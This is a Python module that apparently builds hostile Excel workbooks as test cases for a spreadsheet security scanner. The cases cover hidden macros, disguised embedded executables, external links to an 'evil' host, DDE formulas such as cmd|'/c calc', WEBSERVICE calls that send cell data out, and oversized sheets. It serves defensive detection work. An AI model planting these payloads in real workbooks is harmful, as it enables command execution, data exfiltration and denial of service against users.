"""The complete example with something in it that acts, hides, or exhausts."""

from __future__ import annotations

import random
from collections.abc import Callable, Iterator

from hostile.zips import edited, part, with_parts

Make = Callable[[], bytes]
SHEET, BOOK = "xl/worksheets/sheet7.xml", "xl/workbook.xml"
STRINGS, TYPES, RELS = "xl/sharedStrings.xml", "[Content_Types].xml", "xl/_rels/workbook.xml.rels"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
RELATION = b'<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s" Target="%s"%s/></Relationships>'


def related(kind: bytes, target: bytes = b"x.bin", more: bytes = b"", where: str = RELS) -> Make:
    return lambda: edited(where, b"</Relationships>", RELATION % (kind, target, more))


OUTSIDE = b' TargetMode="External"'
ON_SHEET = "xl/worksheets/_rels/sheet7.xml.rels"


def macros() -> Iterator[tuple[str, str, Make]]:
    """Macros, and what passes them off as something else."""
    for name in ("xl/vbaProject.bin", "xl/VBAPROJECT.BIN", "xl/vbaData.xml", "xl/vbaProjectSignature.bin", "vba.bin"):
        yield f"macro: {name}", "BX008", lambda name=name: with_parts({name: OLE})
    for name in ("xl/macrosheets/sheet1.xml", "xl/dialogsheets/sheet1.xml", "xl/intlMacrosheets/sheet1.xml"):
        yield f"macro: {name}", "BX008", lambda name=name: with_parts({name: b"<x/>"})
    for kind in ("sheet.macroEnabled.main", "template.macroEnabled.main", "addin.macroEnabled.main"):
        name = b"application/vnd.ms-excel.%s+xml" % kind.encode()
        old = b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
        yield f"macro type: {kind}", "BX008", lambda old=old, name=name: edited(TYPES, old, name)
        hidden = name.replace(b"Enabled", b"&#69;nabled")
        yield f"macro type, hidden: {kind}", "BX008", lambda old=old, hidden=hidden: edited(TYPES, old, hidden)
    for kind in (b"vbaProject", b"xlMacrosheet", b"xlIntlMacrosheet", b"dialogsheet", b"attachedToolbars"):
        yield f"macro relation: {kind.decode()}", "BX008", related(kind)
    yield "macro relation, hidden", "BX008", related(b"vbaProjec&#116;")


def embedded() -> Iterator[tuple[str, str, Make]]:
    """Other files and programs inside."""
    for kind in (b"oleObject", b"control", b"package"):
        yield f"embedded relation: {kind.decode()}", "BX011", related(kind, where=ON_SHEET)
    for name in (
        "xl/embeddings/a.docx",
        "xl/embeddings/oleObject1.bin",
        "xl/activeX/activeX1.xml",
        "xl/embeddings/a.xlsx",
    ):
        yield f"embedded: {name}", "BX011", lambda name=name: with_parts({name: b"<x/>"})
    for name, data in {
        "ole": OLE,
        "exe": b"MZ\x90\x00",
        "elf": b"\x7fELF",
        "script": b"#!/bin/sh",
        "pdf": b"%PDF-1.7",
    }.items():
        yield f"a disguised {name}", "BX011", lambda data=data: with_parts({"xl/media/image1.png": data + bytes(99)})


def links() -> Iterator[tuple[str, str, Make]]:
    """What is fetched from elsewhere when the workbook is opened."""
    for kind in (
        b"connections",
        b"queryTable",
        b"externalLink",
        b"externalLinkPath",
        b"xlExternalLinkPath/xlPathMissing",
    ):
        yield f"link relation: {kind.decode()}", "BX009", related(kind)
    for kind in (b"image", b"oleLink", b"frame", b"attachedTemplate", b"pivotCacheDefinition", b"video"):
        yield f"outside relation: {kind.decode()}", "BX009", related(kind, b"http://evil/a", OUTSIDE, ON_SHEET)
    yield "outside relation, hidden", "BX009", related(b"image", b"http://e", b" TargetMode='Ext&#101;rnal'", ON_SHEET)
    yield "a share", "BX009", related(b"image", b"file:///\\\\evil\\a", OUTSIDE, ON_SHEET)
    link = "xl/externalLinks/externalLink1.xml"
    yield "another workbook", "BX009", lambda: with_parts({link: b"<externalLink><externalBook/></externalLink>"})
    for kind in (b"ddeLink", b"oleLink", b"x:ddeLink"):
        yield (
            f"link: {kind.decode()}",
            "BX010",
            lambda kind=kind: with_parts({link: b"<externalLink><%s a='cmd'/></externalLink>" % kind}),
        )
    yield "a connection", "BX009", lambda: with_parts({"xl/connections.xml": b"<connections/>"})
    yield "a query", "BX009", lambda: with_parts({"xl/queryTables/queryTable1.xml": b"<queryTable/>"})


def formulas() -> Iterator[tuple[str, str, Make]]:
    """Formulas that call another program or machine."""
    for formula, code in {
        "cmd|'/c calc'!A0": "BX010",
        "'cmd'|'/c calc'!A0": "BX010",
        "1+MSEXCEL|'\\..\\cmd.exe'!'/c'": "BX010",
        "cmd|&apos;/c calc&apos;!A0": "BX010",
        "cm&#100;&#124;'/c calc'!A0": "BX010",
        "\"a|b\"&amp;cmd|'/c'!A1": "BX010",
        'RTD("evil.server",,"a")': "BX010",
        'rtd("evil.server",,"a")': "BX010",
        '_xlfn.WEBSERVICE("http://evil/"&amp;A1)': "BX009",
        'WebService ("http://evil/")': "BX009",
        'IF(1,_xlfn.WEBSERVICE("http://evil/"))': "BX009",
        "W&#69;BSERVICE(A1)": "BX009",
        '_xlfn.IMAGE("http://evil/a.png")': "BX009",
        "'[Budsjett 2025.xlsx]Ark1'!F7": "BX009",
        "'C:\\[bok.xlsm]Ark1'!A1": "BX009",
    }.items():
        cell = f'<row r="99"><c r="A99"><f>{formula}</f><v>1</v></c></row></sheetData>'.encode()
        for where in (SHEET, "xl/worksheets/sheet1.xml"):
            make = lambda where=where, cell=cell: edited(where, b"</sheetData>", cell)  # noqa: E731
            yield f"formula {formula} in {where}", code, make
    names = b'<definedName name="x" hidden="1">cmd|&apos;/c&apos;!A0</definedName></definedNames>'
    yield "a name that starts a program", "BX010", lambda: edited(BOOK, b"</definedNames>", names)
    rule = b"<conditionalFormatting sqref='A1'><cfRule type='expression' priority='99'><formula>cmd|'/c'!A0</formula></cfRule></conditionalFormatting></worksheet>"
    yield "a format that starts a program", "BX010", lambda: edited(SHEET, b"</worksheet>", rule)


_CELL = b'<row r="99">%b<v>1</v></c></row>'
FAR = {
    "small letters": _CELL % b'<c r="xfd1048576">',
    "its type first": _CELL % b'<c t="n" r="xfd1048576">',
    "seventy letters": _CELL % (b'<c r="G%b99">' % (70 * b"a")),
    "zeros before its number": _CELL % b'<c r="ZZ000000000099999999">',
    "spaces before the sign": _CELL % (b"<c r%b='XFD1048576'>" % (20 * b" ")),
    "spaces behind the sign": _CELL % (b'<c r=%b"XFD1048576">' % (20 * b" ")),
    "no space before its name": _CELL % b'<c s="0"r="XFD1048576">',
    "and another quote": _CELL % b"<c s='0'r=\"XFD1048576\">",
    "a carriage return": _CELL % b'<c\rr="XFD1048576">',
    "a tab": _CELL % b'<c\tr="XFD1048576">',
    "a row without addresses": b'<row\rr="1048576"><c><v>1</v></c></row>',
    "a prefix": b'<x:row xmlns:x="http://schemas.openxmlformats.org/spreadsheetml/2006/main" r="99">'
    b'<x:c r="xfd1048576"><x:v>1</x:v></x:c></x:row>',
}
"""Cells so far away that the reader would end the process that lays out what lies between; each as it may be written."""

NO_ADDRESS = frozenset({"seventy letters", "no space before its name", "and another quote"})
"""Those that are broken besides."""


def sizes() -> Iterator[tuple[str, str, Make]]:
    """Sheets, cells and texts that are too many, too large, or there twice."""
    sheet = b'<sheet name="budsjett" sheetId="99" r:id="rId1"/></sheets>'
    yield "two sheets of one name", "BX013", lambda: edited(BOOK, b"</sheets>", sheet)
    many = b"".join(b'<sheet name="a%d" sheetId="%d" r:id="rId1"/>' % (n, n + 99) for n in range(400)) + b"</sheets>"
    yield "four hundred sheets", "BX007", lambda: edited(BOOK, b"</sheets>", many)
    yield (
        "a cell at the end",
        "BX007",
        lambda: edited(SHEET, b"</sheetData>", b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>'),
    )
    yield (
        "a row beyond the last",
        "BX007",
        lambda: edited(SHEET, b"</sheetData>", b'<row r="999999999"><c r="A999999999"><v>1</v></c></row></sheetData>'),
    )
    for what, row in FAR.items():
        code = "BX006" if what in NO_ADDRESS else "BX007"
        yield f"a far cell: {what}", code, lambda row=row: edited(SHEET, b"</sheetData>", row + b"</sheetData>")
    yield "many sheets with a far cell", "BX007", far_cells
    text = b'<row r="99"><c r="A99" t="inlineStr"><is><t>%s</t></is></c></row></sheetData>'
    yield (
        "a text of 200 kB",
        "BX007",
        lambda: edited(SHEET, b"</sheetData>", text % random.Random(2).randbytes(100_000).hex().encode()),
    )
    yield (
        "a shared text of 200 kB",
        "BX007",
        lambda: edited(
            STRINGS, b"</sst>", b"<si><t>%s</t></si></sst>" % random.Random(2).randbytes(100_000).hex().encode()
        ),
    )
    yield (
        "an attribute of 200 kB",
        "BX007",
        lambda: edited(
            SHEET, b"<sheetData>", b"<sheetData a='%s'>" % random.Random(2).randbytes(100_000).hex().encode()
        ),
    )
    yield (
        "a million and a half shared texts",
        "BX007",
        lambda: edited(STRINGS, b"</sst>", b"".join(b"<si><t>%d</t></si>" % n for n in range(1_500_000)) + b"</sst>"),
    )
    yield "a long text in very many cells", "BX007", amplified


def far_cells() -> bytes:
    far = b'<row r="9990"><c r="ZZ9990"><v>1</v></c></row></sheetData>'
    sheets = [f"xl/worksheets/sheet{number}.xml" for number in range(2, 8)]
    return with_parts({name: part(name).replace(b"</sheetData>", far) for name in sheets})


def amplified() -> bytes:
    noise = random.Random(3).randbytes(15_000).hex().encode()
    texts = part(STRINGS).replace(b"</sst>", b"<si><t>%s</t></si></sst>" % noise)
    last = texts.count(b"<si>") - 1
    rows = b"".join(b'<row r="%d"><c r="A%d" t="s"><v>%d</v></c></row>' % (n, n, last) for n in range(100, 30_000))
    return with_parts({STRINGS: texts, SHEET: part(SHEET).replace(b"</sheetData>", rows + b"</sheetData>")})
